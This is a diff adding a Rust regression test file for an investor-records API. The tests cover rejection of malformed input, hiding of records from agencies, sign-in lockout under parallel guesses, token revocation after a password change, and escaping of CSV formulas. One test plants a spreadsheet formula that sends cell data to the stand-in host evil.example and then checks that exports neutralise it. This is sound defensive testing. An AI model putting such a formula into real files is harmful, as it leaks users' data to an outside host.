@@ -1,0 +1,327 @@
+//! Regressions of defects found by probing the running server as an outsider would: input
+//! that panicked or reached the database unchecked, what agencies could learn of records they
+//! cannot see, formulas in exports, and sign-in throttling under parallel attempts.
+
+use futures_util::future::join_all;
+use reqwest::Method;
+use serde_json::{Value, json};
+use zhaoshang_api::testing::TestDb;
+use zhaoshang_client::Client;
+use zhaoshang_e2e::{PASSWORD, TestApp, answer, credit_code, db_test};
+use zhaoshang_types::{BatchOutcome, ContactFields, InvestorFields, LibraryQuery, Role};
+
+use crate::library::agency_user;
+
+db_test!(a_cursor_that_is_not_ascii_is_refused, cursor_not_ascii);
+/// `cursor=aéa` once sliced a string inside a character and dropped the connection.
+async fn cursor_not_ascii(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    for path in [
+        "/api/v1/investors?cursor=a%C3%A9a",
+        "/api/v1/enterprises?cursor=%E8%A1%A2%E5%B7%9E",
+        "/api/v1/orgs?cursor=a%C3%A9a",
+        "/api/v1/users?cursor=a%C3%A9a",
+        "/api/v1/audit?cursor=a%C3%A9a",
+    ] {
+        let (status, body) = answer(app.request_as(&admin, Method::GET, path).await).await;
+        assert_eq!(status, 422, "{path}: {body}");
+        assert_eq!(body["errors"][0]["field"], "cursor", "{path}: {body}");
+        assert_eq!(
+            body["errors"][0]["code"], "invalid_cursor",
+            "{path}: {body}"
+        );
+    }
+}
+
+db_test!(text_holding_nul_is_refused_alike_on_both_backends, nul_text);
+/// U+0000 cannot be stored by PostgreSQL: it is refused before any query, with the field named,
+/// on both backends, in a JSON body, a query parameter, a path and the token form.
+async fn nul_text(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    let (status, body) = answer(
+        app.request_as(&admin, Method::POST, "/api/v1/investors")
+            .await
+            .json(&json!({"name": "a\u{0}b", "tags": ["ok", "x\u{0}"]})),
+    )
+    .await;
+    assert_eq!(status, 422, "{body}");
+    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
+    assert!(
+        ["name", "tags[1]"].contains(&body["errors"][0]["field"].as_str().unwrap_or("")),
+        "{body}"
+    );
+    let (status, body) = answer(
+        app.request_as(&admin, Method::GET, "/api/v1/investors?q=x%00y")
+            .await,
+    )
+    .await;
+    assert_eq!(
+        (status, &body["errors"][0]["field"]),
+        (422, &json!("q")),
+        "{body}"
+    );
+    let (status, body) = answer(
+        app.request_as(&admin, Method::GET, "/api/v1/investors/a%00b")
+            .await,
+    )
+    .await;
+    assert_eq!(status, 404, "{body}");
+    let (status, body) = answer(app.http().post(app.url("/api/v1/auth/token")).form(&[
+        ("grant_type", "password"),
+        ("username", "x\u{0}y"),
+        ("password", "whatever password"),
+    ]))
+    .await;
+    assert_eq!(status, 400, "{body}");
+    assert_eq!(body["errors"][0]["field"], "username", "{body}");
+    assert_eq!(body["errors"][0]["code"], "invalid_character", "{body}");
+    // Nothing was stored, and the escape for a backslash before `u0000` is ordinary text.
+    let all = admin
+        .investors()
+        .list(&LibraryQuery::default())
+        .await
+        .expect("list");
+    assert!(all.items.is_empty(), "{:?}", all.items);
+    let plain = admin
+        .investors()
+        .create(&InvestorFields {
+            name: "反斜杠\\u0000".into(),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect("a backslash is text");
+    assert_eq!(plain.fields.name, "反斜杠\\u0000");
+}
+
+db_test!(
+    agencies_learn_nothing_of_records_they_cannot_see,
+    agency_hidden_records
+);
+/// Look-alike names and credit-code clashes name no record an agency cannot see.
+async fn agency_hidden_records(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    let (_, agency) = agency_user(&app, &admin, "上海某招商咨询").await;
+    let code = credit_code(7);
+    let hidden = admin
+        .investors()
+        .create(&InvestorFields {
+            name: "浙江某新材料集团".into(),
+            credit_code: Some(code.clone()),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect("the bureau's investor");
+    let own = agency
+        .investors()
+        .create(&InvestorFields {
+            name: "浙江某新材料集团".into(),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect("the agency's look-alike");
+    assert!(
+        own.possible_duplicates.is_empty(),
+        "an invisible look-alike is named: {:?}",
+        own.possible_duplicates
+    );
+    let by_bureau = admin
+        .investors()
+        .create(&InvestorFields {
+            name: "浙江某新材料集团".into(),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect("the bureau sees both");
+    assert_eq!(by_bureau.possible_duplicates.len(), 2);
+
+    let clash = agency
+        .investors()
+        .create(&InvestorFields {
+            name: "另一家".into(),
+            credit_code: Some(code.clone()),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect_err("the code is taken");
+    let problem = clash.problem().expect("a problem");
+    assert_eq!((problem.status, problem.code.as_str()), (409, "conflict"));
+    assert_eq!(problem.existing_id, None, "{problem:?}");
+    assert!(!format!("{problem:?}").contains(&hidden.id), "{problem:?}");
+
+    let batch = agency
+        .investors()
+        .batch_upsert(&[InvestorFields {
+            name: "同步的客商".into(),
+            credit_code: Some(code.clone()),
+            external_id: Some("ext-1".into()),
+            ..InvestorFields::default()
+        }])
+        .await
+        .expect_err("the code is taken");
+    let text = format!("{:?}", batch.problem().expect("a problem"));
+    assert!(text.contains("credit_code"), "{text}");
+    assert!(!text.contains(&hidden.id), "{text}");
+    // Its own record's id it may be told.
+    let mine = agency
+        .investors()
+        .batch_upsert(&[InvestorFields {
+            name: "自有客商".into(),
+            credit_code: Some(credit_code(8)),
+            external_id: Some("ext-2".into()),
+            ..InvestorFields::default()
+        }])
+        .await
+        .expect("own record");
+    assert_eq!(mine.results[0].outcome, BatchOutcome::Created);
+    let own_clash = agency
+        .investors()
+        .create(&InvestorFields {
+            name: "重复的自有客商".into(),
+            credit_code: Some(credit_code(8)),
+            ..InvestorFields::default()
+        })
+        .await
+        .expect_err("its own code is taken");
+    assert_eq!(
+        own_clash.problem().and_then(|p| p.existing_id.clone()),
+        Some(mine.results[0].id.clone())
+    );
+}
+
+db_test!(exported_cells_are_never_formulas, csv_formulas);
+/// Names and contacts that a spreadsheet would evaluate are exported with a leading `'`.
+async fn csv_formulas(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
+    let investor = admin
+        .investors()
+        .create(&InvestorFields {
+            name: formula.into(),
+            tags: vec!["@SUM(1)".into()],
+            ..InvestorFields::default()
+        })
+        .await
+        .expect("stored as written");
+    assert_eq!(investor.fields.name, formula, "the record keeps the text");
+    admin
+        .investor_contacts(&investor.id)
+        .create(&ContactFields {
+            name: "-2+3".into(),
+            phone: Some("+8613812345678".into()),
+            ..ContactFields::default()
+        })
+        .await
+        .expect("contact");
+    let csv = String::from_utf8(
+        admin
+            .investors()
+            .export_csv(&LibraryQuery::default())
+            .await
+            .expect("csv"),
+    )
+    .expect("utf-8");
+    let (status, contacts) = answer(
+        app.request_as(
+            &admin,
+            Method::GET,
+            &format!("/api/v1/investors/{}/contacts?format=csv", investor.id),
+        )
+        .await,
+    )
+    .await;
+    assert_eq!(status, 200);
+    let contacts = contacts.as_str().unwrap_or_default().to_owned();
+    for (export, cell) in [
+        (&csv, "\"'=HYPERLINK("),
+        (&csv, "'@SUM(1)"),
+        (&contacts, "'-2+3"),
+        (&contacts, "'+8613812345678"),
+    ] {
+        assert!(export.contains(cell), "{cell} in {export}");
+    }
+    for (export, raw) in [(&csv, ",\"=HYPERLINK("), (&contacts, ",-2+3,")] {
+        assert!(!export.contains(raw), "{raw} in {export}");
+    }
+}
+
+db_test!(
+    wrong_passwords_sent_at_once_all_count,
+    parallel_failures_lock
+);
+/// Twelve wrong passwords sent together lock the name as five in a row do: the right one
+/// afterwards is refused with 429.
+async fn parallel_failures_lock(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    let (user, _) = app.user_with_role(&admin, Role::Department).await;
+    let attempts = (0..12).map(|_| {
+        app.http()
+            .post(app.url("/api/v1/auth/token"))
+            .form(&[
+                ("grant_type", "password"),
+                ("username", user.username.as_str()),
+                ("password", "wrong password!!"),
+            ])
+            .send()
+    });
+    let statuses: Vec<u16> = join_all(attempts)
+        .await
+        .into_iter()
+        .map(|r| r.expect("sent").status().as_u16())
+        .collect();
+    assert!(
+        statuses.iter().all(|s| [400, 429].contains(s)),
+        "{statuses:?}"
+    );
+    let (status, body) = answer(app.http().post(app.url("/api/v1/auth/token")).form(&[
+        ("grant_type", "password"),
+        ("username", user.username.as_str()),
+        ("password", PASSWORD),
+    ]))
+    .await;
+    assert_eq!(status, 429, "{body}");
+    assert_eq!(body["code"], "too_many_attempts");
+}
+
+db_test!(
+    tokens_issued_before_a_password_change_stop_working,
+    tokens_before_password_change
+);
+/// A password changed (by its user or reset by an administrator) ends the tokens issued
+/// before it; a token issued afterwards works.
+async fn tokens_before_password_change(db: TestDb) {
+    let app = TestApp::spawn(db).await;
+    let admin = app.admin().await;
+    let (user, old) = app.user_with_role(&admin, Role::County).await;
+    old.me().await.expect("the token works");
+    // Tokens carry whole seconds: let the change fall in a later second than the issue.
+    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
+    admin
+        .update_user(
+            &user.id,
+            &zhaoshang_types::UserPatch {
+                password: Some("a new password of enough length".into()),
+                ..zhaoshang_types::UserPatch::default()
+            },
+            None,
+        )
+        .await
+        .expect("reset");
+    let (status, body) = answer(app.request_as(&old, Method::GET, "/api/v1/me").await).await;
+    assert_eq!(status, 401, "{body}");
+    assert_eq!(body["code"], "invalid_token", "{body}");
+    let fresh = Client::with_password(
+        &app.base_url,
+        &user.username,
+        "a new password of enough length",
+    )
+    .await
+    .expect("sign in again");
+    let me: Value =
+        serde_json::to_value(fresh.me().await.expect("the new token works")).expect("json");
+    assert_eq!(me["id"], user.id);
+}
